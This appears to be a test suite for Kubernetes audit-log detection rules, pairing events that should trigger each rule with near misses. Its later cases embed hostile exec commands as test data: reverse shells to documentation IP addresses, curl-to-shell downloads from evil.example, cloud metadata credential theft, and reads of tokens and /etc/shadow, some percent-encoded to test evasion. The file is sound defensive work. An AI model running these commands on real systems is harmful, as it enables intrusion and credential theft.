import { CorpusEvent, loadCorpus } from '../../support/corpus';
import {
  ADMIN,
  ANONYMOUS,
  CONTROLLER,
  Json,
  auditEvent,
  binding,
  defaultRulesetAllEnabled,
  falcoRulesFile,
  execQuery,
  podSpec,
  role,
  workload,
} from './audit-event';

/**
 * Every rule of rules/*.yaml, each with events that must fire it and near misses that must not.
 * For window and first_seen rules this checks the per-event condition; counting over stored
 * history is the detection service's job. A rule without a row here fails the last test.
 */
interface Case {
  rule: string;
  fires: Record<string, () => Json>;
  misses: Record<string, () => Json>;
}

let corpus: CorpusEvent[] = [];
function real(file: string, index = 0): Json {
  const found = corpus.filter((e) => e.file === file);
  if (!found[index]) throw new Error(`corpus event ${file}[${index}] not found`);
  return structuredClone(found[index].raw);
}
function as(event: Json, username: string, groups = ['system:authenticated']): Json {
  return { ...event, user: { username, groups } };
}

const DEPLOY = 'deployments';
const privileged = podSpec({}, { securityContext: { privileged: true } });
const ALICE = ADMIN;
const BOB = { username: 'bob@example.com', groups: ['system:authenticated'] };

function exec(args: string[], extra: Partial<Parameters<typeof auditEvent>[0]> = {}): Json {
  return auditEvent({
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace: 'shop',
    name: 'api-7d9f-abcde',
    query: execQuery(args),
    ...extra,
  });
}

/** An exec whose query the client encoded itself (each word a `command` parameter, as given). */
function rawExec(commandParams: string[]): Json {
  return auditEvent({
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace: 'shop',
    name: 'api-7d9f-abcde',
    query: commandParams
      .map((c) => `command=${c}`)
      .concat(['container=app', 'stdout=true'])
      .join('&'),
  });
}

const CASES: Case[] = [
  {
    rule: 'Unlisted User Activity',
    fires: {
      'a person not in any list': () =>
        auditEvent({ verb: 'list', resource: 'pods', namespace: 'shop' }),
    },
    misses: {
      'the replicaset controller (corpus)': () =>
        real('falcosecurity-falco/create_nginx_pod_privileged.json'),
      'an AKS control-plane client (corpus)': () => real('sysdiglabs-aks-audit-log/event.json', 0),
      'a node': () =>
        auditEvent({
          verb: 'get',
          resource: 'nodes',
          name: 'n1',
          user: { username: 'system:node:n1', groups: ['system:nodes'] },
        }),
      'an EKS component': () =>
        auditEvent({ verb: 'list', resource: 'pods', user: { username: 'eks:node-manager' } }),
      'the default admin (minikube-user, corpus)': () =>
        real('falcosecurity-falco/create_deployment.json'),
    },
  },
  {
    rule: 'Default Admin Credential Used',
    fires: {
      'minikube-user (corpus)': () => real('falcosecurity-falco/create_deployment.json'),
      'kubernetes-admin': () =>
        auditEvent({
          verb: 'get',
          resource: 'secrets',
          namespace: 'shop',
          name: 'db',
          user: {
            username: 'kubernetes-admin',
            groups: ['system:masters', 'system:authenticated'],
          },
        }),
    },
    misses: {
      'a named person': () =>
        auditEvent({ verb: 'get', resource: 'pods', namespace: 'shop', name: 'x' }),
    },
  },
  {
    rule: 'Anonymous Request Authorized',
    fires: {
      'anonymous namespace creation (corpus)': () =>
        real('falcosecurity-falco/anonymous_creates_namespace_foo.json'),
      'anonymous secret list': () =>
        auditEvent({
          verb: 'list',
          resource: 'secrets',
          namespace: 'kube-system',
          user: ANONYMOUS,
        }),
    },
    misses: {
      'anonymous /healthz': () =>
        auditEvent({ verb: 'get', uri: '/healthz?verbose', user: ANONYMOUS }),
      'anonymous refused': () =>
        auditEvent({
          verb: 'list',
          resource: 'secrets',
          namespace: 'kube-system',
          user: ANONYMOUS,
          code: 403,
        }),
    },
  },
  {
    rule: 'Workload Image Outside Allowed Repositories',
    fires: {
      'any image while the allow-list is empty': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          namespace: 'shop',
          name: 'p',
          requestObject: { kind: 'Pod', spec: podSpec() },
        }),
    },
    misses: {
      'a trusted platform image': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          namespace: 'shop',
          name: 'p',
          requestObject: {
            kind: 'Pod',
            spec: podSpec({}, { image: 'registry.k8s.io/kube-proxy:v1.31.0' }),
          },
        }),
    },
  },
  {
    rule: 'Privileged Container In Workload',
    fires: {
      'a privileged Pod (corpus body, created by a person)': () =>
        as(real('falcosecurity-falco/create_nginx_pod_privileged.json'), 'alice@example.com'),
      'privileged 2nd container (corpus body)': () =>
        as(
          real('falcosecurity-falco/create_nginx_pod_privileged_2nd_container.json'),
          'alice@example.com',
        ),
      'a privileged DaemonSet': () =>
        auditEvent({
          verb: 'create',
          resource: 'daemonsets',
          namespace: 'shop',
          name: 'd',
          requestObject: workload('DaemonSet', 'd', privileged),
        }),
      'a CronJob patched to privileged': () =>
        auditEvent({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'shop',
          name: 'c',
          requestObject: {
            spec: {
              jobTemplate: {
                spec: {
                  template: {
                    spec: { containers: [{ name: 'app', securityContext: { privileged: true } }] },
                  },
                },
              },
            },
          },
        }),
      'a privileged init container in a StatefulSet update': () =>
        auditEvent({
          verb: 'update',
          resource: 'statefulsets',
          namespace: 'shop',
          name: 's',
          requestObject: workload('StatefulSet', 's', {
            ...podSpec(),
            initContainers: [
              { name: 'init', image: 'busybox', securityContext: { privileged: true } },
            ],
          }),
        }),
    },
    misses: {
      'an unprivileged Pod (corpus body)': () =>
        as(real('falcosecurity-falco/create_nginx_pod_unprivileged.json'), 'alice@example.com'),
      'the ReplicaSet controller creating the Pod (corpus)': () =>
        real('falcosecurity-falco/create_nginx_pod_privileged.json'),
      'privileged calico/node': () =>
        auditEvent({
          verb: 'create',
          resource: 'daemonsets',
          namespace: 'calico-system',
          name: 'calico-node',
          requestObject: workload(
            'DaemonSet',
            'calico-node',
            podSpec(
              {},
              { image: 'quay.io/calico/node:v3.28.0', securityContext: { privileged: true } },
            ),
          ),
        }),
      'privileged: false': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'Deployment',
            'd',
            podSpec({}, { securityContext: { privileged: false } }),
          ),
        }),
      refused: () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          code: 403,
          requestObject: workload('Deployment', 'd', privileged),
        }),
    },
  },
  {
    rule: 'Sensitive Host Path Mounted In Workload',
    fires: {
      'sensitive mount (corpus body)': () =>
        as(real('falcosecurity-falco/create_nginx_pod_sensitive_mount.json'), 'alice@example.com'),
      'docker socket in a Deployment patch': () =>
        auditEvent({
          verb: 'patch',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: {
            spec: {
              template: {
                spec: { volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }] },
              },
            },
          },
        }),
      'kubelet PKI below /var/lib/kubelet, second volume of a StatefulSet': () =>
        auditEvent({
          verb: 'create',
          resource: 'statefulsets',
          namespace: 'shop',
          name: 's',
          requestObject: workload(
            'StatefulSet',
            's',
            podSpec({
              volumes: [
                { name: 'data', emptyDir: {} },
                { name: 'pki', hostPath: { path: '/var/lib/kubelet/pki/', type: 'Directory' } },
              ],
            }),
          ),
        }),
      'host root in a Job': () =>
        auditEvent({
          verb: 'create',
          resource: 'jobs',
          namespace: 'shop',
          name: 'j',
          requestObject: workload(
            'Job',
            'j',
            podSpec({ volumes: [{ name: 'host', hostPath: { path: '/' } }] }),
          ),
        }),
    },
    misses: {
      'harmless host path (corpus body)': () =>
        as(
          real('falcosecurity-falco/create_nginx_pod_unsensitive_mount.json'),
          'alice@example.com',
          ['system:authenticated'],
        ),
      '/etc/localtime host path': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'Deployment',
            'd',
            podSpec({ volumes: [{ name: 'tz', hostPath: { path: '/etc/localtime' } }] }),
          ),
        }),
      '/var/log/app host path': () =>
        auditEvent({
          verb: 'create',
          resource: 'daemonsets',
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'DaemonSet',
            'd',
            podSpec({ volumes: [{ name: 'l', hostPath: { path: '/var/log/app' } }] }),
          ),
        }),
    },
  },
  {
    rule: 'Host Network Workload',
    fires: {
      'hostNetwork Pod (corpus body)': () =>
        as(real('falcosecurity-falco/create_nginx_pod_hostnetwork.json'), 'alice@example.com'),
      'hostNetwork ReplicaSet': () =>
        auditEvent({
          verb: 'create',
          resource: 'replicasets',
          namespace: 'shop',
          name: 'r',
          requestObject: workload('ReplicaSet', 'r', podSpec({ hostNetwork: true })),
        }),
    },
    misses: {
      'hostNetwork false (corpus body)': () =>
        as(real('falcosecurity-falco/create_nginx_pod_nohostnetwork.json'), 'alice@example.com'),
    },
  },
  {
    rule: 'Host PID Workload',
    fires: {
      'hostPID Deployment': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload('Deployment', 'd', podSpec({ hostPID: true })),
        }),
    },
    misses: {
      'hostPID false': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload('Deployment', 'd', podSpec({ hostPID: false })),
        }),
    },
  },
  {
    rule: 'Host IPC Workload',
    fires: {
      'hostIPC Pod update': () =>
        auditEvent({
          verb: 'update',
          resource: 'pods',
          namespace: 'shop',
          name: 'p',
          requestObject: { kind: 'Pod', spec: podSpec({ hostIPC: true }) },
        }),
    },
    misses: {
      'hostIPC set by a node (mirror pod)': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          namespace: 'kube-system',
          name: 'p',
          user: { username: 'system:node:n1', groups: ['system:nodes'] },
          requestObject: { kind: 'Pod', spec: podSpec({ hostIPC: true }) },
        }),
    },
  },
  {
    rule: 'Dangerous Capability Added To Container',
    fires: {
      'SYS_ADMIN in a Deployment': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'Deployment',
            'd',
            podSpec({}, { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }),
          ),
        }),
      'ALL in a Pod': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          namespace: 'shop',
          name: 'p',
          requestObject: {
            kind: 'Pod',
            spec: podSpec({}, { securityContext: { capabilities: { add: ['ALL'] } } }),
          },
        }),
    },
    misses: {
      'NET_BIND_SERVICE only': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'Deployment',
            'd',
            podSpec(
              {},
              { securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } },
            ),
          ),
        }),
    },
  },
  {
    rule: 'Privilege Escalation Allowed In Container',
    fires: {
      'allowPrivilegeEscalation true': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'Deployment',
            'd',
            podSpec({}, { securityContext: { allowPrivilegeEscalation: true } }),
          ),
        }),
    },
    misses: {
      'allowPrivilegeEscalation false': () =>
        auditEvent({
          verb: 'create',
          resource: DEPLOY,
          namespace: 'shop',
          name: 'd',
          requestObject: workload(
            'Deployment',
            'd',
            podSpec({}, { securityContext: { allowPrivilegeEscalation: false } }),
          ),
        }),
    },
  },
  {
    rule: 'Workload Created In System Namespace',
    fires: {
      'a person creating a Pod in kube-system (corpus body)': () =>
        as(real('falcosecurity-falco/create_pod_kube_system_namespace.json'), 'alice@example.com'),
      'a DaemonSet in kube-system': () =>
        auditEvent({
          verb: 'create',
          resource: 'daemonsets',
          namespace: 'kube-system',
          name: 'kube-proxy-x',
          requestObject: workload('DaemonSet', 'kube-proxy-x', podSpec()),
        }),
    },
    misses: {
      'the ReplicaSet controller in kube-system (corpus)': () =>
        real('falcosecurity-falco/create_pod_kube_system_namespace.json'),
      'a Pod in an application namespace': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          namespace: 'shop',
          name: 'p',
          requestObject: { kind: 'Pod', spec: podSpec() },
        }),
    },
  },
  {
    rule: 'Ephemeral Container Added',
    fires: {
      'kubectl debug': () =>
        auditEvent({
          verb: 'patch',
          resource: 'pods',
          subresource: 'ephemeralcontainers',
          namespace: 'shop',
          name: 'api-1',
          requestObject: {
            spec: { ephemeralContainers: [{ name: 'debugger-x', image: 'busybox' }] },
          },
        }),
    },
    misses: {
      'ephemeral containers read': () =>
        auditEvent({
          verb: 'get',
          resource: 'pods',
          subresource: 'ephemeralcontainers',
          namespace: 'shop',
          name: 'api-1',
        }),
    },
  },
  {
    rule: 'Exec Or Attach Into Pod',
    fires: {
      'exec (corpus)': () => as(real('falcosecurity-falco/exec_pod.json'), 'alice@example.com'),
      'attach (corpus)': () => as(real('falcosecurity-falco/attach_pod.json'), 'alice@example.com'),
      'websocket exec recorded as get (EKS)': () => exec(['sh'], { verb: 'get' }),
      'exec recorded only at ResponseComplete': () => exec(['sh'], { stage: 'ResponseComplete' }),
    },
    misses: {
      'exec refused': () => exec(['sh'], { code: 403, stage: 'ResponseComplete' }),
      'pod logs': () =>
        auditEvent({
          verb: 'get',
          resource: 'pods',
          subresource: 'log',
          namespace: 'shop',
          name: 'p',
        }),
      'exec at RequestReceived': () => exec(['sh'], { stage: 'RequestReceived' }),
    },
  },
  {
    rule: 'Port Forward To Pod',
    fires: {
      'port-forward': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          subresource: 'portforward',
          namespace: 'shop',
          name: 'db-0',
          query: 'ports=5432',
        }),
    },
    misses: {
      'port-forward refused': () =>
        auditEvent({
          verb: 'create',
          resource: 'pods',
          subresource: 'portforward',
          namespace: 'shop',
          name: 'db-0',
          code: 403,
          stage: 'ResponseComplete',
        }),
    },
  },
  {
    rule: 'NodePort Service Exposed',
    fires: {
      'NodePort service (corpus)': () =>
        real('falcosecurity-falco/create_nginx_service_nodeport.json'),
      'service patched to NodePort': () =>
        auditEvent({
          verb: 'patch',
          resource: 'services',
          namespace: 'shop',
          name: 'api',
          requestObject: { spec: { type: 'NodePort' } },
        }),
    },
    misses: {
      'ClusterIP service (corpus)': () =>
        real('falcosecurity-falco/create_nginx_service_nonodeport.json'),
    },
  },
  {
    rule: 'ConfigMap Holding Credentials',
    fires: {
      'aws key in a ConfigMap (corpus)': () =>
        real('falcosecurity-falco/create_configmap_sensitive_values.json', 0),
    },
    misses: {
      'a CA bundle': () =>
        auditEvent({
          verb: 'create',
          resource: 'configmaps',
          namespace: 'shop',
          name: 'ca',
          requestObject: {
            kind: 'ConfigMap',
            data: { 'ca.crt': '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n' },
          },
        }),
      'ordinary ConfigMap (corpus)': () =>
        real('falcosecurity-falco/create_configmap_no_sensitive_values.json'),
    },
  },
  {
    rule: 'Ingress Without TLS',
    fires: {
      'ingress without tls': () =>
        auditEvent({
          verb: 'create',
          resource: 'ingresses',
          namespace: 'shop',
          name: 'web',
          requestObject: { kind: 'Ingress', spec: { rules: [{ host: 'shop.example.com' }] } },
        }),
    },
    misses: {
      'ingress with tls': () =>
        auditEvent({
          verb: 'create',
          resource: 'ingresses',
          namespace: 'shop',
          name: 'web',
          requestObject: {
            kind: 'Ingress',
            spec: { tls: [{ hosts: ['shop.example.com'], secretName: 'web-tls' }], rules: [] },
          },
        }),
    },
  },
  {
    rule: 'Namespace Created Outside Known List',
    fires: {
      'namespace foo (corpus)': () =>
        real('falcosecurity-falco/some-user_creates_namespace_foo.json'),
    },
    misses: {
      'namespace default': () =>
        auditEvent({
          verb: 'create',
          resource: 'namespaces',
          name: 'default',
          requestObject: { kind: 'Namespace', metadata: { name: 'default' } },
        }),
      'namespace deleted (corpus)': () => real('falcosecurity-falco/delete_namespace_foo.json'),
    },
  },
  {
    rule: 'Service Account Created In System Namespace',
    fires: {
      'kube-system (corpus)': () =>
        real('falcosecurity-falco/create_serviceaccount_kube_system_namespace.json'),
      'kube-public (corpus)': () =>
        real('falcosecurity-falco/create_serviceaccount_kube_public_namespace.json'),
    },
    misses: {
      'default namespace (corpus)': () => real('falcosecurity-falco/create_serviceaccount.json'),
    },
  },
  {
    rule: 'System Role Changed',
    fires: {
      'system:node-problem-detector patched (corpus)': () =>
        real('falcosecurity-falco/modify_cluster_role_node_problem_detector.json'),
      'system:kube-aggregator deleted (corpus)': () =>
        real('falcosecurity-falco/delete_cluster_role_kube_aggregator.json'),
    },
    misses: {
      'ordinary role deleted (corpus)': () => real('falcosecurity-falco/delete_clusterrole.json'),
      'system:coredns updated': () =>
        auditEvent({ verb: 'update', resource: 'clusterroles', name: 'system:coredns' }),
    },
  },
  {
    rule: 'Binding To Cluster Admin',
    fires: {
      'cluster-admin binding (corpus)': () =>
        real('falcosecurity-falco/attach_cluster_admin_role.json'),
      'namespaced RoleBinding to cluster-admin': () =>
        auditEvent({
          verb: 'create',
          resource: 'rolebindings',
          namespace: 'shop',
          name: 'b',
          requestObject: binding('RoleBinding', 'b', 'cluster-admin'),
        }),
    },
    misses: {
      'binding to a reader role (corpus)': () =>
        real('falcosecurity-falco/create_clusterrolebinding.json'),
    },
  },
  {
    rule: 'Role With Wildcard Permissions',
    fires: {
      'wildcard resources (corpus)': () =>
        real('falcosecurity-falco/create_cluster_role_wildcard_resources.json'),
      'wildcard verbs (corpus)': () =>
        real('falcosecurity-falco/create_cluster_role_wildcard_verbs.json'),
    },
    misses: { 'a reader role (corpus)': () => real('falcosecurity-falco/create_clusterrole.json') },
  },
  {
    rule: 'Role With Write Permissions',
    fires: {
      'write verbs (corpus)': () =>
        real('falcosecurity-falco/create_cluster_role_write_privileges.json'),
    },
    misses: { 'a reader role (corpus)': () => real('falcosecurity-falco/create_clusterrole.json') },
  },
  {
    rule: 'Role Granting Pod Exec',
    fires: {
      'pods/exec (corpus)': () => real('falcosecurity-falco/create_cluster_role_pod_exec.json'),
    },
    misses: { 'a reader role (corpus)': () => real('falcosecurity-falco/create_clusterrole.json') },
  },
  {
    rule: 'Secret Read',
    fires: {
      'a person reads a secret': () =>
        auditEvent({ verb: 'get', resource: 'secrets', namespace: 'shop', name: 'db-password' }),
    },
    misses: {
      'a controller reads it': () =>
        auditEvent({
          verb: 'get',
          resource: 'secrets',
          namespace: 'shop',
          name: 'db-password',
          user: CONTROLLER,
        }),
      refused: () =>
        auditEvent({
          verb: 'get',
          resource: 'secrets',
          namespace: 'shop',
          name: 'db-password',
          code: 403,
        }),
    },
  },
  {
    rule: 'Secret Read Denied',
    fires: {
      'refused read': () =>
        auditEvent({
          verb: 'get',
          resource: 'secrets',
          namespace: 'shop',
          name: 'db-password',
          code: 403,
        }),
    },
    misses: {
      'allowed read': () =>
        auditEvent({ verb: 'get', resource: 'secrets', namespace: 'shop', name: 'db-password' }),
    },
  },
  {
    rule: 'Node Created By Non-Node Identity',
    fires: {
      'a person creates a Node': () =>
        auditEvent({
          verb: 'create',
          resource: 'nodes',
          name: 'fake-node',
          requestObject: { kind: 'Node', metadata: { name: 'fake-node' } },
        }),
    },
    misses: {
      'the kubelet registers its node': () =>
        auditEvent({
          verb: 'create',
          resource: 'nodes',
          name: 'ip-10-0-1-2',
          user: {
            username: 'system:node:ip-10-0-1-2',
            groups: ['system:nodes', 'system:authenticated'],
          },
        }),
    },
  },
  {
    rule: 'Node Registration Refused',
    fires: {
      'node create forbidden': () =>
        auditEvent({
          verb: 'create',
          resource: 'nodes',
          name: 'rogue',
          code: 403,
          user: { username: 'system:node:rogue', groups: ['system:nodes'] },
        }),
    },
    misses: {
      'node create allowed': () =>
        auditEvent({
          verb: 'create',
          resource: 'nodes',
          name: 'ip-10-0-1-2',
          user: { username: 'system:node:ip-10-0-1-2', groups: ['system:nodes'] },
        }),
    },
  },
  {
    rule: 'Deployment Created Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_deployment.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_deployment.json'),
    },
    misses: {
      scaled: () =>
        auditEvent({
          verb: 'patch',
          resource: DEPLOY,
          subresource: 'scale',
          namespace: 'shop',
          name: 'd',
        }),
    },
  },
  {
    rule: 'Service Created Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_service.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_service.json'),
    },
    misses: {
      'read by AKS': () =>
        auditEvent({
          verb: 'get',
          resource: 'services',
          namespace: 'shop',
          name: 's',
          user: { username: 'aksService' },
        }),
    },
  },
  {
    rule: 'ConfigMap Created Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_configmap.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_configmap.json'),
    },
    misses: {
      'AKS create conflict (corpus)': () => real('sysdiglabs-aks-audit-log/event.json', 0),
    },
  },
  {
    rule: 'Namespace Created Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/minikube_creates_namespace_foo.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_namespace_foo.json'),
    },
    misses: {
      'deleted by the namespace controller': () =>
        auditEvent({
          verb: 'delete',
          resource: 'namespaces',
          name: 'foo',
          user: { username: 'system:serviceaccount:kube-system:namespace-controller' },
        }),
    },
  },
  {
    rule: 'Service Account Created Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_serviceaccount.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_serviceaccount.json'),
    },
    misses: {
      'token request': () =>
        auditEvent({
          verb: 'create',
          resource: 'serviceaccounts',
          subresource: 'token',
          namespace: 'shop',
          name: 'api',
        }),
    },
  },
  {
    rule: 'Role Created Or Deleted',
    fires: {
      'role created': () =>
        auditEvent({
          verb: 'create',
          resource: 'roles',
          namespace: 'shop',
          name: 'r',
          requestObject: role('Role', 'r', [
            { apiGroups: [''], resources: ['pods'], verbs: ['get'] },
          ]),
        }),
    },
    misses: {
      'clusterrole created (corpus)': () => real('falcosecurity-falco/create_clusterrole.json'),
    },
  },
  {
    rule: 'ClusterRole Created Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_clusterrole.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_clusterrole.json'),
    },
    misses: {
      'patched (corpus)': () =>
        real('falcosecurity-falco/modify_cluster_role_node_problem_detector.json'),
    },
  },
  {
    rule: 'RoleBinding Changed',
    fires: {
      'rolebinding created': () =>
        auditEvent({
          verb: 'create',
          resource: 'rolebindings',
          namespace: 'shop',
          name: 'b',
          requestObject: binding('RoleBinding', 'b', 'view'),
        }),
    },
    misses: {
      'clusterrolebinding created (corpus)': () =>
        real('falcosecurity-falco/create_clusterrolebinding.json'),
    },
  },
  {
    rule: 'ClusterRoleBinding Changed',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_clusterrolebinding.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_clusterrolebinding.json'),
    },
    misses: { 'read by AKS (corpus)': () => real('sysdiglabs-aks-audit-log/event.json', 2) },
  },
  {
    rule: 'Secret Changed Or Deleted',
    fires: {
      'created (corpus)': () => real('falcosecurity-falco/create_secret.json'),
      'deleted (corpus)': () => real('falcosecurity-falco/delete_secret.json'),
    },
    misses: {
      'bootstrap token in kube-system (corpus)': () =>
        real('falcosecurity-falco/create_kube_system_secret.json'),
      'service-account token by the controller manager (corpus)': () =>
        real('falcosecurity-falco/create_service_account_token_secret.json'),
    },
  },
  {
    rule: 'Any Audit Event',
    fires: {
      'a completed request': () =>
        auditEvent({ verb: 'get', resource: 'pods', namespace: 'shop', name: 'p' }),
    },
    misses: { 'a started stream': () => exec(['sh']) },
  },
  // --- 20-k8s-audit-extra.yaml ---
  {
    rule: 'Exec Reaches Cloud Metadata',
    fires: {
      'through the kubelet API (nodes/proxy exec)': () =>
        auditEvent({
          verb: 'get',
          resource: 'nodes',
          subresource: 'proxy',
          name: 'n1',
          uri: '/api/v1/nodes/n1/proxy/exec/shop/api-1/app?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&output=1',
        }),
      'by a kube-system service account too': () =>
        exec(['wget', '-qO-', 'http://169.254.169.254/latest/api/token'], { user: CONTROLLER }),
      'curl to IMDS': () =>
        exec(['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
      'through the kubelet /run endpoint (nodes/proxy run, cmd parameter)': () =>
        auditEvent({
          verb: 'create',
          resource: 'nodes',
          subresource: 'proxy',
          name: 'n1',
          uri: '/api/v1/nodes/n1/proxy/run/shop/api-1/app?cmd=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F',
        }),
      'the address with percent-encoded digits': () =>
        rawExec(['curl', 'http%3A%2F%2F%31%36%39.254.169.254%2flatest%2fmeta-data%2f']),
      'GKE metadata via sh -c, websocket get': () =>
        exec(
          [
            'sh',
            '-c',
            'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
          ],
          { verb: 'get' },
        ),
    },
    misses: {
      'curl to a service': () => exec(['curl', '-s', 'http://orders.shop.svc:8080/health']),
      'another link-local address': () => exec(['curl', '-s', 'http://169.254.1.1/']),
    },
  },
  {
    rule: 'Exec Opens Reverse Shell',
    fires: {
      'bash -i >& /dev/tcp': () =>
        exec(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1']),
      'nc -e': () => exec(['nc', '-e', '/bin/sh', '198.51.100.9', '4444']),
      'encoded with %20 (a client using encodeURIComponent)': () =>
        auditEvent({
          verb: 'get',
          resource: 'pods',
          subresource: 'exec',
          namespace: 'shop',
          name: 'api-1',
          query: ['sh', '-c', 'sh -i >& /dev/udp/198.51.100.9/53 0>&1']
            .map((a) => `command=${encodeURIComponent(a)}`)
            .concat(['stdout=1', 'stderr=1'])
            .join('&'),
        }),
      'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 as one argument, letters percent-encoded': () =>
        rawExec(['bash', '-c', 'bash+-i+%3E%26+%2fdev%2f%74cp%2f1.2.3.4%2F4444+0%3E%26%31']),
      'nc by its path': () => exec(['/usr/bin/nc', '-e', '/bin/sh', '198.51.100.9', '4444']),
      'nc -e inside sh -c, after its address': () =>
        exec(['sh', '-c', 'nc 198.51.100.9 4444 -e /bin/sh']),
      'socat with an upper-case EXEC address': () =>
        exec(['socat', 'TCP:198.51.100.9:4444', 'EXEC:/bin/bash']),
      'python pty': () =>
        exec([
          'python3',
          '-c',
          'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",4444));pty.spawn("sh")',
        ]),
    },
    misses: {
      'interactive bash': () => exec(['bash', '-i']),
      'nc port check': () => exec(['nc', '-zv', 'db.shop.svc', '5432']),
      'socat port forward': () => exec(['socat', 'TCP-LISTEN:8080,fork', 'TCP:db.shop.svc:5432']),
      'a file under /dev': () => exec(['ls', '-l', '/dev/tty']),
    },
  },
  {
    rule: 'Exec Downloads Remote Content',
    fires: {
      'curl | sh': () => exec(['sh', '-c', 'curl -fsSL https://evil.example/x.sh | sh']),
      'a local URL does not hide a remote one': () =>
        exec([
          'sh',
          '-c',
          'curl -s http://localhost:8080/ready && curl -so /tmp/x https://evil.example/x',
        ]),
      'wget https': () => exec(['wget', '-q', 'https://evil.example/miner', '-O', '/tmp/m']),
      'curl http://x | sh as one -c argument, %7C and lower-case %2f': () =>
        rawExec(['sh', '-c', 'curl%20http%3a%2f%2fx%20%7C%20sh']),
      'a local script piped into bash': () =>
        exec(['sh', '-c', 'curl -s localhost:8080/install.sh | /bin/bash']),
      'curl with a percent-encoded letter': () =>
        rawExec(['sh', '-c', '%63url+-fsSL+https%3A%2F%2Fevil.example%2Fx.sh+%7c+sh']),
      'curl inside $(...)': () =>
        exec(['sh', '-c', 'echo "$(curl -fsSL https://evil.example/i.sh)" > /tmp/i']),
      'a host that only starts like localhost': () =>
        exec(['curl', '-s', 'http://localhost.evil.example/x']),
    },
    misses: {
      'curl localhost health': () => exec(['curl', '-s', 'http://localhost:8080/healthz']),
      'cat a file': () => exec(['cat', '/app/config.yaml']),
      'curl to the API server': () =>
        exec(['curl', '-sk', 'https://kubernetes.default.svc.cluster.local/version']),
      'a quoted local URL': () => exec(['sh', '-c', 'curl -s "http://localhost"']),
      'a local download piped into shasum': () =>
        exec(['sh', '-c', 'curl -s http://127.0.0.1:8080/app.tgz | shasum']),
      'https in a non-curl command': () => exec(['echo', 'https://evil.example/x']),
    },
  },
  {
    rule: 'Exec Reads Credentials',
    fires: {
      'service-account token': () =>
        exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']),
      'token, refused (the attempt counts)': () =>
        exec(['cat', '/run/secrets/kubernetes.io/serviceaccount/token'], {
          code: 403,
          stage: 'ResponseComplete',
        }),
      kubeconfig: () => exec(['sh', '-c', 'cat ~/.kube/config']),
      'process environment': () => exec(['cat', '/proc/1/environ']),
      '/etc/shadow with lower-case %2f and an encoded letter': () =>
        rawExec(['cat', '%2fetc%2f%73hadow']),
      'a kubeconfig as one sh -c argument': () =>
        exec(['sh', '-c', 'cat /etc/kubernetes/admin.conf | base64']),
    },
    misses: {
      'resolv.conf': () => exec(['cat', '/etc/resolv.conf']),
      'another /proc file': () => exec(['cat', '/proc/cpuinfo']),
    },
  },
  {
    rule: 'First Exec By User Into Namespace',
    fires: { exec: () => exec(['sh']) },
    misses: { 'exec by a controller': () => exec(['sh'], { user: CONTROLLER }) },
  },
  {
    rule: 'Service Account Used From Interactive Client',
    fires: {
      'a workload token replayed with kubectl': () =>
        auditEvent({
          verb: 'list',
          resource: 'secrets',
          namespace: 'shop',
          user: {
            username: 'system:serviceaccount:shop:api',
            groups: [
              'system:serviceaccounts',
              'system:serviceaccounts:shop',
              'system:authenticated',
            ],
          },
        }),
      'with curl': () =>
        auditEvent({
          verb: 'get',
          uri: '/api/v1/namespaces/shop/pods',
          userAgent: 'curl/8.5.0',
          user: { username: 'system:serviceaccount:shop:api' },
